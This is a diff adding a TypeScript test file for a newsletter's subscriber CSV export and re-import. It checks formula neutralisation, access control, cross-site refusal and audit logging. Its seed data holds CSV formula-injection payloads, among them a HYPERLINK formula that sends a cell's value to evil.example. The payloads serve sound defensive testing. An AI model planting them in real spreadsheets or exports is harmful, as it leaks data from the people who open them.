@@ -1,0 +1,214 @@
+import { parse } from 'csv-parse/sync'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { makeDatabase } from '../support/database.ts'
+import { come, importsOf } from '../support/imports.ts'
+import { newsletterOf } from '../support/newsletter.ts'
+import { type Server, startServer } from '../support/server.ts'
+import { makeStaff } from '../support/staff.ts'
+
+let url: string
+let server: Server
+let sessions: Awaited<ReturnType<typeof makeStaff>>
+let news: ReturnType<typeof newsletterOf>
+let lists: ReturnType<typeof importsOf>
+
+// As people, spreadsheets and attackers write them, and as staff leave them behind in the admin.
+const names = [
+  'Ada',
+  "O'Neill",
+  "'quoted'",
+  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1;2)',
+  '\t=1+1',
+  '\r=1+1',
+  "'=1+1",
+  'Ada, Countess; "Lovelace"',
+  'two\nlines',
+  '  spaces  all   around ',
+  'José Ñuñez 李小龍 👩🏽‍🍳',
+  'x;=1+1',
+  '',
+]
+const phones = ['+44 114 496 0184', '0114 496 0184', '+441144960184', '=1', 'call the desk', null]
+
+/** Somebody in each state, with everything that is hard to write down. */
+async function fill() {
+  await news.query(
+    `with people as (
+       insert into subscribers (email, name, phone, birthday_day, birthday_month, state, joined_at,
+                                left_at, paused_until, confirmed_at, source, updated_at)
+       select 'reader' || n || '@venue.example', nullif(($1::text[])[1 + n % $3], ''),
+              ($2::text[])[1 + n % $4], case when n % 3 = 0 then 1 + n % 28 end,
+              case when n % 3 = 0 then 1 + n % 12 end,
+              (array['active', 'active', 'pending', 'unsubscribed', 'bounced', 'complained'])
+                [1 + n % 6]::enum_subscribers_state,
+              case when n % 6 <> 2 then timestamptz '2026-01-02 03:04:05.678Z' + n * interval '1 h' end,
+              case when n % 6 > 2 then timestamptz '2026-09-01 00:00Z' end,
+              case when n % 12 = 0 then timestamptz '2027-01-01 00:00Z' end,
+              timestamptz '2026-01-02 03:04:05.678Z', 'form', timestamptz '2026-02-03 00:00Z'
+         from generate_series(1, 60) as n returning id, state),
+     chosen as (
+       insert into subscribers_interests ("order", parent_id, value)
+       select place, id, interest::enum_subscribers_interests
+         from people, unnest(array['Film & Cinema', 'Cooking Classes']) with ordinality as i (interest, place)
+        where id % 2 = 0)
+     insert into consents (subscriber_id, kind, at, how, wording, version)
+     select id, 'given', timestamptz '2026-01-02 03:04:05.678Z', 'form', 'Yes, write to me; =1', 'v1'
+       from people where state <> 'pending'`,
+    [names, phones, names.length, phones.length],
+  )
+}
+/** Everything that an import could have changed. */
+const everything = async () =>
+  Promise.all(
+    [
+      'subscribers',
+      'subscribers_interests',
+      'consents',
+      'mails',
+      'subscription_requests',
+      'suppressions',
+    ].map((table) =>
+      news.query<{ row: string }>(
+        `select row_to_json(t)::text as row from ${table} as t order by id`,
+      ),
+    ),
+  )
+
+beforeAll(async () => {
+  url = await makeDatabase('demo')
+  server = await startServer({ DATABASE_URL: url })
+  sessions = await makeStaff(server)
+  news = newsletterOf(server, url)
+  lists = importsOf(server, sessions.publisher)
+  await fill()
+})
+afterAll(() => server?.stop())
+
+const rowsOf = (text: string): Record<string, string>[] =>
+  parse(text, { bom: true, columns: true, record_delimiter: '\r\n' })
+
+describe('an export', () => {
+  test('is a list of everybody, which Excel knows for UTF-8 where that is wished', async () => {
+    const answer = await lists.take()
+    expect(answer.status).toBe(200)
+    expect(answer.headers).toMatchObject({
+      'content-type': 'text/csv; charset=utf-8',
+      'content-disposition': expect.stringMatching(
+        /^attachment; filename="subscribers [\d-]+\.csv"$/,
+      ),
+      'cache-control': 'no-store',
+    })
+    expect([...answer.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    expect(rowsOf(answer.text)).toHaveLength(60)
+    const bare = await lists.take('?mark=0')
+    expect(bare.text.startsWith('email,name,phone,birthday,interests,state,')).toBe(true)
+    expect(`\ufeff${bare.text}`).toBe(answer.text)
+  })
+
+  test('has no cell that a spreadsheet computes', async () => {
+    const { text } = await lists.take()
+    for (const row of rowsOf(text)) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
+    }
+    expect(text).toContain("'+44 114 496 0184")
+  })
+
+  test('of some is of these alone', async () => {
+    const states = rowsOf((await lists.take('?state=bounced')).text).map(({ state }) => state)
+    expect(new Set(states)).toEqual(new Set(['bounced']))
+    const interest = rowsOf((await lists.take('?interest=Film+%26+Cinema')).text)
+    expect(interest).toHaveLength(30)
+    expect((await lists.take('?state=gone')).status).toBe(400)
+  })
+
+  test('is for publishers, from this site, and is noted without an address', async () => {
+    for (const session of ['', `JWT ${sessions.editor}`]) {
+      const answer = await server.get('/api/newsletter/export', { authorization: session })
+      expect([401, 403]).toContain(answer.status)
+      expect(answer.text).not.toContain('@venue.example')
+    }
+    const cookie = `payload-token=${sessions.publisher}`
+    const foreign = await server.get('/api/newsletter/export', {
+      cookie,
+      origin: 'https://evil.example',
+      'sec-fetch-site': 'cross-site',
+    })
+    expect(foreign.status).toBe(401)
+    const [entry] = await news.query<{ row: string }>(
+      `select row_to_json(a)::text as row from audit as a where action = 'exported' order by id limit 1`,
+    )
+    expect(entry?.row).toContain('60 subscribers')
+    expect(entry?.row).toContain('"by_name":"publisher"')
+    expect(entry?.row).not.toContain('@')
+  })
+})
+
+describe('an export that is imported again', () => {
+  test.each([
+    ['as it is', (text: string) => text],
+    ['without its mark', (text: string) => text.slice(1)],
+    ['with its columns turned round', (text: string) => turnedRound(text)],
+    ['in Excel’s UTF-16 with tabs', (text: string) => inExcels(text)],
+  ])('%s changes nothing, not even when somebody was changed last', async (_, as) => {
+    const before = await everything()
+    const { text } = await lists.take()
+    const done = await lists.bring(as(text), { unstated: 'ask' })
+    expect([done.refusal, come(done), done.rows]).toEqual([null, { same: 60 }, 60])
+    expect(done.unused).toEqual([])
+    expect(await everything()).toEqual(before)
+  })
+
+  test('in another house makes the same subscribers there, and writes to nobody', async () => {
+    const otherUrl = await makeDatabase('empty')
+    const other = await startServer({ DATABASE_URL: otherUrl, DEMO: '0' })
+    const staff = await makeStaff(other)
+    const there = importsOf(other, staff.publisher)
+    const { text } = await lists.take()
+    const rows = rowsOf(text)
+    const done = await there.bring(text)
+    // What no form takes is told, and those who never confirmed are left out.
+    expect(come(done)).toMatchObject({
+      noted: expect.any(Number),
+      joins: expect.any(Number),
+      asks: expect.any(Number),
+    })
+    const moved = rowsOf((await there.take()).text)
+    const strange = done.counts.rejected
+    expect(moved.length).toBe(60 - strange - done.counts.asks)
+    const bare = ({ consent_how, name, interests, ...rest }: Record<string, string>) => rest
+    for (const row of moved) {
+      const origin = rows.find(({ email }) => email === row.email)
+      if (origin?.state === 'active') expect(bare(row)).toEqual(bare(origin))
+      expect(row.state).toBe(origin?.state)
+    }
+    expect(
+      moved
+        .filter(({ state }) => state === 'active')
+        .every(({ consent_how }) => consent_how === 'import: form'),
+    ).toBe(true)
+    const otherNews = newsletterOf(other, otherUrl)
+    expect(await otherNews.query('select from mails')).toEqual([])
+    await other.stop()
+  })
+})
+
+function turnedRound(text: string): string {
+  const [header = [], ...rows] = parse(text, { bom: true }) as string[][]
+  const quoted = (cells: string[]) =>
+    cells
+      .toReversed()
+      .map((each) => `"${each.replaceAll('"', '""')}"`)
+      .join(';')
+  return [header, ...rows].map(quoted).join('\n')
+}
+
+function inExcels(text: string): Buffer {
+  const rows = parse(text, { bom: true }) as string[][]
+  const quoted = rows.map((cells) =>
+    cells.map((each) => `"${each.replaceAll('"', '""')}"`).join('\t'),
+  )
+  return Buffer.from(`\ufeff${quoted.join('\r\n')}`, 'utf16le')
+}
